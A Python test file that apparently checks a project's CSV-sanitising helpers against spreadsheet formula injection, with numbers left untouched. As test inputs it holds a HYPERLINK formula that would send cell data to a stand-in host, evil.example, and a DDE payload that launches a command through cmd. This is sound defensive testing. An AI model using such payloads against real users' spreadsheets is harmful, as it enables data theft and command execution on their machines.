"""CSV formula injection: every CSV the project writes shows archive text as text, never as a formula
(issue 17 item 7); numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from PIL import Image as PILImage

from dataset.dedupe import DedupeConfig, run_dedupe
from db.csvsafe import dict_writer, safe_cell, writer
from modeling.inference.report import render_predictions

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"ver")'


@pytest.mark.parametrize(("value", "shown"), [
    ("=1+2", "'=1+2"), ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-", "'-"), ("--1", "'--1"),
    ("-12", "-12"), ("+3.5", "+3.5"), ("-1e-3", "-1e-3"), ("-.5", "-.5"), (-1940, -1940), (-0.25, -0.25),
    ("1940", "1940"), ("hacia 1940", "hacia 1940"), ("", ""), (None, None), ("a=b", "a=b"),
])
def test_cells(value, shown):
    assert safe_cell(value) == shown


def test_writers_neutralise_rows_and_dicts_but_not_the_header():
    buffer = io.StringIO()
    rows = writer(buffer, lineterminator="\n")
    rows.writerow(["=x", -3, "-3"])
    rows.writerows([["@y"]])
    table = dict_writer(buffer, fieldnames=["=head"], lineterminator="\n")
    table.writeheader()
    table.writerows([{"=head": "+z"}])
    assert buffer.getvalue() == "'=x,-3,-3\n'@y\n=head\n'+z\n"


def test_the_dedupe_report_shows_archive_text_as_text(fresh_db, add_photo, tmp_path):
    picture = PILImage.new("RGB", (64, 48), (10, 20, 30))
    for x in range(0, 64, 8):
        picture.paste((200, 180, 40), (x, 0, x + 4, 48))
    add_photo("@SUM(1+1)", picture, HOSTILE)
    add_photo("-1", picture.resize((48, 36)), "-1950?")
    report = tmp_path / "dups.csv"
    run_dedupe(fresh_db, DedupeConfig(hash="phash", report=report, progress=False))
    rows = {row["source_id"]: row for row in csv.DictReader(report.open(encoding="utf-8"))}
    assert rows["'@SUM(1+1)"]["date_raw"] == "'" + HOSTILE
    assert rows["-1"]["date_raw"] == "'-1950?" and rows["-1"]["year_conflict"] in ("yes", "no")  # "-1" is a number


def test_predict_csv_shows_file_names_as_text():
    text = render_predictions([{"file": "=cmd|' /C calc'!A0.jpg", "error": "-not an image"}], "csv")
    assert text.splitlines()[1] == "'=cmd|' /C calc'!A0.jpg,,,,,,,,'-not an image"


def test_every_csv_the_project_writes_goes_through_csvsafe():
    """A new csv.writer or csv.DictWriter outside db/csvsafe.py (benchmarks aside) would write formulas."""
    raw = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT)) for folder in ("crawler", "db", "dataset", "modeling", "commands", "scripts")
        for path in (ROOT / folder).rglob("*.py")
        if path.name != "csvsafe.py" and raw.search(path.read_text(encoding="utf-8"))
    ] + ([] if not raw.search((ROOT / "cli.py").read_text(encoding="utf-8")) else ["cli.py"])
    assert offenders == []
